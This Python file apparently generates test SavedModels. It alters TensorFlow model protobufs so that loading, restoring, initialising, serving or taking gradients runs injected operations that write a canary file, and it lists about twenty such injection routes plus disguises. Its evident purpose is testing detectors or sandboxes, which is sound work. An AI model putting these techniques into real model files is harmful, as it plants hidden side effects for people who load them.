"""SavedModels that were altered to write a file, by every list that TensorFlow runs functions from."""

import functools
import gc
import pathlib
import random
import shutil

import numpy as np
import tensorflow as tf
from google.protobuf.message import Message
from tensorflow.core.framework import variable_pb2
from tensorflow.core.protobuf import saved_model_pb2, saver_pb2

STRING, FLOAT, INT32 = (tf.string.as_datatype_enum, tf.float32.as_datatype_enum, tf.int32.as_datatype_enum)
PAYLOAD, CALL = "__inference_payload_7", "payload_call"


class Computing(tf.Module):
    """A variable, a table, a branch, a loop and a gradient: what real models have of functions."""

    def __init__(self):
        super().__init__()
        self.scale = tf.Variable(2.0)
        keys = tf.lookup.KeyValueTensorInitializer(["a", "b"], tf.constant([1, 2], tf.int64))
        self.table = tf.lookup.StaticHashTable(keys, -1)

    @tf.function(input_signature=[tf.TensorSpec([], tf.float32, name="x")])
    def serve(self, x):
        @tf.custom_gradient
        def square(value):
            return value * value, lambda upstream: upstream * 2.0 * value

        y = tf.cond(x > 0, lambda: x * self.scale, lambda: x)
        y = tf.while_loop(lambda i, v: i < 2, lambda i, v: (i + 1, v + 1.0), [0, y])[1]
        return {"y": square(y) + tf.cast(self.table.lookup(tf.constant("b")), tf.float32)}


def save_modern(directory: str) -> None:
    model = Computing()
    options = tf.saved_model.SaveOptions(experimental_custom_gradients=True)
    tf.saved_model.save(model, directory, signatures={"serving_default": model.serve}, options=options)


def save_old(directory: str, *, resources: bool) -> None:
    with tf.Graph().as_default() as graph, tf.compat.v1.Session(graph=graph) as session:
        x = tf.compat.v1.placeholder(tf.float32, [])
        scale = tf.compat.v1.get_variable("scale", [], use_resource=resources)
        local = tf.compat.v1.get_variable(
            "seen", [], collections=[tf.compat.v1.GraphKeys.LOCAL_VARIABLES], use_resource=resources
        )
        session.run([tf.compat.v1.global_variables_initializer(), tf.compat.v1.local_variables_initializer()])
        tf.compat.v1.saved_model.simple_save(session, directory, {"x": x}, {"y": x * scale + local})


BASES = {
    "modern": save_modern,
    "old": lambda directory: save_old(directory, resources=False),
    "old with resources": lambda directory: save_old(directory, resources=True),
}


def add_constant(nodes, name: str, value, kind: int) -> str:
    node = nodes.add(name=name, op="Const")
    node.attr["dtype"].type = kind
    node.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))
    return name


class Mutant:
    """A SavedModel to alter: `meta` is its first graph; the payload's files begin with `canary`."""

    def __init__(self, base: str, directory: pathlib.Path, canary: str, seed: int) -> None:
        shutil.copytree(base, directory)
        self.path = directory / "saved_model.pb"
        self.saved = saved_model_pb2.SavedModel.FromString(self.path.read_bytes())
        self.meta, self.canary, self.random = self.saved.meta_graphs[0], canary, random.Random(seed)
        self.functions = self.meta.graph_def.library.function
        self.objects = self.meta.object_graph_def

    def altered(self) -> bool:
        return self.saved != saved_model_pb2.SavedModel.FromString(self.path.read_bytes())

    def write(self) -> str:
        self.path.write_bytes(self.saved.SerializeToString())
        return str(self.path.parent)

    def payload_nodes(self, nodes, *, inside: bool, prefix: str = "p_") -> str:
        """Add operations that write the canary; return the one to depend on."""
        end = ":output:0" if inside else ""

        def constant(name, value, kind):
            return add_constant(nodes, prefix + name, value, kind) + end

        name = constant("name", self.canary, STRING)
        text = constant("text", "x", STRING)
        op = self.random.choice(["WriteFile", "SaveV2", "SaveV2", "SaveV2", "PrintV2", "Save"])
        node = nodes.add(name=prefix + "act", op=op)
        if op == "WriteFile":
            node.input[:] = [name, text]
        elif op == "PrintV2":
            node.input[:] = [text]
            node.attr["output_stream"].s = f"file://{self.canary}".encode()
            node.attr["end"].s = b"\n"
        else:
            names, value = constant("names", ["x"], STRING), constant("value", np.float32(1), FLOAT)
            slices = [constant("slices", [""], STRING)] if op == "SaveV2" else []
            node.input[:] = [name, names, *slices, value]
            node.attr["dtypes" if op == "SaveV2" else "T"].list.type.append(FLOAT)
        return node.name

    def payload_function(self, name: str = PAYLOAD) -> str:
        """Add a function without arguments that writes the canary."""
        function = self.functions.add()
        function.signature.name, function.signature.is_stateful = name, True
        function.signature.output_arg.add(name="out", type=FLOAT)
        function.signature.control_output.append("act")
        act = self.payload_nodes(function.node_def, inside=True)
        function.control_ret["act"] = act
        function.ret["out"] = add_constant(function.node_def, "one", np.float32(1), FLOAT) + ":output:0"
        return name

    def call(self, nodes, function: str, name: str = CALL) -> str:
        """Add a call of a function, in one of the ways there are."""
        way = self.random.choice(["StatefulPartitionedCall", "PartitionedCall", "op", "Case", "If"])
        node = nodes.add(name=name, op=function if way == "op" else way)
        if way == "op":
            return name
        inside = nodes is not self.meta.graph_def.node
        node.attr["Tout"].list.type.append(FLOAT)
        node.attr["Tin"].list.SetInParent()
        if way in ("Case", "If"):
            place = add_constant(nodes, f"{name}_place", np.int32(0), INT32)
            node.input.append(place + (":output:0" if inside else ""))
            if way == "Case":
                node.attr["branches"].list.func.add(name=function)
            else:
                node.attr["Tcond"].type = INT32
                for branch in ("then_branch", "else_branch"):
                    node.attr[branch].func.name = function
        else:
            node.attr["f"].func.name = function
        return name

    def some_function(self):
        bodies = [each for each in self.functions if each.signature.name != PAYLOAD]
        return self.random.choice(bodies) if bodies else None

    def hold(self, name: str, node: int | None = None) -> None:
        """Let the root have an object, the last one unless a number is given."""
        last = len(self.objects.nodes) - 1
        self.objects.nodes[0].children.add(local_name=name, node_id=last if node is None else node)

    def depend(self, function, node: str) -> None:
        """Let a function run a node of its body."""
        function.signature.is_stateful = True
        function.signature.control_output.append(f"c_{node}")
        function.control_ret[f"c_{node}"] = node


def list_concretely(m: Mutant, function: str) -> int:
    """List a function as a bare concrete function; return its object."""
    if m.random.random() < 0.9:
        listed = m.objects.concrete_functions[function]
        listed.canonicalized_input_signature.tuple_value.values.add().tuple_value.SetInParent()
        listed.canonicalized_input_signature.tuple_value.values.add().dict_value.SetInParent()
        listed.output_signature.tensor_spec_value.dtype = FLOAT
    bare = m.objects.nodes.add().bare_concrete_function
    bare.concrete_function_name = function
    return len(m.objects.nodes) - 1


def in_a_body(m: Mutant) -> None:
    function = m.some_function()
    if function is not None:
        m.depend(function, m.payload_nodes(function.node_def, inside=True, prefix="q_"))


def called_in_a_body(m: Mutant) -> None:
    function = m.some_function()
    if function is not None:
        m.depend(function, m.call(function.node_def, m.payload_function()))


def through_another(m: Mutant) -> None:
    m.payload_function()
    outer = m.functions.add()
    outer.signature.name = "__inference_outer_8"
    outer.signature.output_arg.add(name="out", type=FLOAT)
    m.depend(outer, m.call(outer.node_def, PAYLOAD))
    outer.ret["out"] = add_constant(outer.node_def, "one", np.float32(1), FLOAT) + ":output:0"
    if len(m.objects.nodes):
        m.hold("more", list_concretely(m, outer.signature.name))


def restored_resource(m: Mutant) -> None:
    """The attack by which loading itself writes: a resource whose `_initialize` is the payload."""
    if not len(m.objects.nodes):
        return
    number = list_concretely(m, m.payload_function())
    resource = m.objects.nodes.add()
    resource.resource.SetInParent()
    for name in m.random.sample(["_initialize", "_create_resource", "_destroy_resource"], 2):
        resource.children.add(local_name=name, node_id=number)
    m.hold("held")


def initialized_by_the_saver(m: Mutant) -> None:
    """The same with the model's own saving function; its prefix comes from constants that it captures."""
    saving = [f for f in m.functions if any(node.op == "SaveV2" for node in f.node_def)]
    if not len(m.objects.nodes) or not saving:
        return
    number = list_concretely(m, saving[0].signature.name)
    bound = m.objects.concrete_functions[saving[0].signature.name].bound_inputs
    for argument in saving[0].signature.input_arg:
        kind = tf.string if argument.type in (STRING, tf.resource.as_datatype_enum) else argument.type
        value = m.canary if kind == tf.string else tf.zeros([], kind)
        kind = tf.as_dtype(kind).as_datatype_enum
        held = add_constant(m.meta.graph_def.node, f"held_{argument.name}", value, kind)
        m.objects.nodes.add().constant.operation = held
        bound.append(len(m.objects.nodes) - 1)
    resource = m.objects.nodes.add()
    resource.resource.SetInParent()
    resource.children.add(local_name="_initialize", node_id=number)
    m.hold("held")


def listed_function(m: Mutant) -> None:
    if len(m.objects.nodes):
        list_concretely(m, m.payload_function())
        polymorphic = m.objects.nodes.add().function
        polymorphic.concrete_functions.append(PAYLOAD)
        m.hold("__call__")


def saveable(m: Mutant) -> None:
    """Restoring variables calls functions that objects bring along."""
    if len(m.objects.nodes):
        number = list_concretely(m, m.payload_function())
        for each in m.objects.nodes:
            if each.WhichOneof("kind") in ("resource", "variable", "user_object"):
                saver = each.saveable_objects[m.random.choice(["", "VARIABLE_VALUE", "SERIALIZE_TO_TENSORS"])]
                saver.save_function = saver.restore_function = number


def gradient(m: Mutant) -> None:
    name, library = m.payload_function(), m.meta.graph_def.library
    for each in library.registered_gradients:
        each.gradient_func = name
    function = m.some_function()
    if function is not None:
        library.gradient.add(function_name=function.signature.name, gradient_func=name)


def nested_attribute(m: Mutant) -> None:
    name, function = m.payload_function(), m.some_function()
    for node in function.node_def if function is not None else ():
        for value in node.attr.values():
            if value.HasField("func"):
                value.func.attr["f"].func.name = name


def default_attribute(m: Mutant) -> None:
    name, function = m.payload_function(), m.some_function()
    if function is not None:
        attribute = function.signature.attr.add(name="F", type="func")
        attribute.default_value.func.name = name
        node = function.node_def.add(name="hidden", op="StatefulPartitionedCall")
        node.attr["f"].placeholder = "F"
        node.attr["Tin"].list.SetInParent()
        node.attr["Tout"].list.type.append(FLOAT)
        m.depend(function, "hidden")


def shadowed(m: Mutant) -> None:
    """A function called like an operation that the model has."""
    used = sorted({node.op for each in m.functions for node in each.node_def})
    m.payload_function(m.random.choice([*used, "Identity", "Mul"]))


def twice(m: Mutant) -> None:
    """Two functions of one name, of which the second or the first is taken."""
    if m.functions:
        name = m.random.choice(list(m.functions)).signature.name
        m.payload_function(name)
        if m.random.random() < 0.5:
            order = list(m.functions)
            copies = [type(each).FromString(each.SerializeToString()) for each in (order[-1], *order[:-1])]
            del m.functions[:]
            m.functions.extend(copies)


def outer_node(m: Mutant) -> str:
    nodes = m.meta.graph_def.node
    if any(node.name in (CALL, "o_act") for node in nodes):
        return "o_act"
    if m.random.random() < 0.5:
        return m.call(nodes, m.payload_function())
    return m.payload_nodes(nodes, inside=False, prefix="o_")


def of_the_outer_graph(m: Mutant) -> None:
    act = outer_node(m)
    for node in m.meta.graph_def.node:
        if node.name not in (act, CALL) and not node.name.startswith("o_") and m.random.random() < 0.2:
            node.input.append(f"^{act}")


def needed_in_restoring(m: Mutant) -> None:
    act, last = outer_node(m), m.meta.saver_def.restore_op_name
    for node in m.meta.graph_def.node:
        if node.name == last:
            node.input.append(f"^{act}")


def restoring_is_the_payload(m: Mutant) -> None:
    m.meta.saver_def.restore_op_name = outer_node(m)


def restoring_saves(m: Mutant) -> None:
    saver = m.meta.saver_def
    saver.restore_op_name = saver.save_tensor_name.partition(":")[0]


def initial(m: Mutant) -> None:
    key = m.random.choice(["saved_model_main_op", "legacy_init_op", "table_initializer"])
    m.meta.collection_def.pop(key, None)
    m.meta.collection_def[key].node_list.value.append(outer_node(m))


def local_variable(m: Mutant) -> None:
    """What initialises a local variable is run in loading, and named in bytes."""
    act = outer_node(m)
    for key in ("local_variables", "variables"):
        for place, value in enumerate(m.meta.collection_def[key].bytes_list.value):
            variable = variable_pb2.VariableDef.FromString(value)
            variable.initializer_name = act
            m.meta.collection_def[key].bytes_list.value[place] = variable.SerializeToString()
    if m.random.random() < 0.5 and m.meta.saver_def.restore_op_name:
        needed_in_restoring(m)


def served(m: Mutant) -> None:
    act = outer_node(m)
    for signature in m.meta.signature_def.values():
        for output in signature.outputs.values():
            output.name = f"{act}:0"


def init_signature(m: Mutant) -> None:
    act = outer_node(m)
    m.meta.signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name = act


def implementation(m: Mutant) -> None:
    """Grappler may exchange functions that say they are the same."""
    m.payload_function()
    for function in m.functions:
        function.attr["api_implements"].s = b"same"
        function.attr["api_preferred_device"].s = b"CPU"


def another_graph(m: Mutant) -> None:
    m.saved.meta_graphs.add().CopyFrom(m.meta)
    if m.random.random() < 0.5:
        m.meta.graph_def.ClearField("node")


def without_objects(m: Mutant) -> None:
    m.meta.ClearField("object_graph_def")


def without_collections(m: Mutant) -> None:
    m.meta.ClearField("collection_def")


def without_saver(m: Mutant) -> None:
    m.meta.saver_def.CopyFrom(saver_pb2.SaverDef())


def moved_to_the_graph(m: Mutant) -> None:
    """Nodes of a function, put into the outer graph under their names."""
    function = m.some_function()
    if function is not None:
        for node in function.node_def:
            moved = m.meta.graph_def.node.add()
            moved.CopyFrom(node)
            moved.name = f"moved/{node.name}"


def rewired(m: Mutant) -> None:
    """The saver writes the canary, and names anywhere are exchanged for those that lead to it."""
    leads = [m.meta.saver_def.save_tensor_name.partition(":")[0]]
    for nodes, end in ((m.meta.graph_def.node, ""), *((f.node_def, ":output:0") for f in m.functions)):
        for saving in [node for node in nodes if node.op == "SaveV2"]:
            saving.input[0] = add_constant(nodes, "poison", m.canary, STRING) + end
            leads.append(saving.name)
    leads += [f.signature.name for f in m.functions if any(node.op == "SaveV2" for node in f.node_def)]
    places = [place for place in strings(m.meta) if place[2].partition(":")[0] not in leads]
    for put, tail, _ in m.random.sample(places, m.random.randint(1, 6)):
        put(m.random.choice(leads) + tail)


def strings(message):
    """Yield how to set each name in a message, the end that it has, such as ":0", and what it is."""
    for field, value in message.ListFields():
        inner = (
            [value] if not field.is_repeated else list(value.values() if hasattr(value, "keys") else value)
        )
        if field.message_type:
            for each in inner:
                if isinstance(each, Message):
                    yield from strings(each)
        elif field.type == field.TYPE_STRING and field.is_repeated:
            for place, each in enumerate(value):
                yield functools.partial(value.__setitem__, place), _tail(each), each
        elif field.type == field.TYPE_STRING:
            yield functools.partial(setattr, message, field.name), _tail(value), value


def _tail(name: str) -> str:
    return f":{name.partition(':')[2]}" if ":" in name else ""


ATTACKS = (
    in_a_body, called_in_a_body, through_another, restored_resource, initialized_by_the_saver,
    listed_function, saveable, gradient, nested_attribute, default_attribute, shadowed, twice,
    of_the_outer_graph, needed_in_restoring, restoring_is_the_payload, restoring_saves, initial,
    local_variable, served, init_signature, implementation, rewired,
)  # fmt: skip
DISGUISES = (another_graph, without_objects, without_collections, without_saver, moved_to_the_graph)


def load_and_run(directory: str) -> None:
    """Do to a SavedModel what running it could do; nothing that fails matters here."""
    try:
        model = tf.saved_model.load(directory)
        for signature in dict(model.signatures).values():
            run(signature)
        for name in dir(model):
            run(getattr(model, name, None))
        del model
    except Exception:
        pass
    gc.collect()


def run(function) -> None:
    """Call a function of a model with whatever it takes, and take its gradient."""
    if not callable(function):
        return
    try:
        specs = getattr(function, "structured_input_signature", ((), {}))[1]
        values = {name: tf.ones([s or 1 for s in spec.shape], spec.dtype) for name, spec in specs.items()}
        with tf.GradientTape() as tape:
            tape.watch(list(values.values()))
            result = function(**values)
        tape.gradient(result, list(values.values()))
    except Exception:
        pass
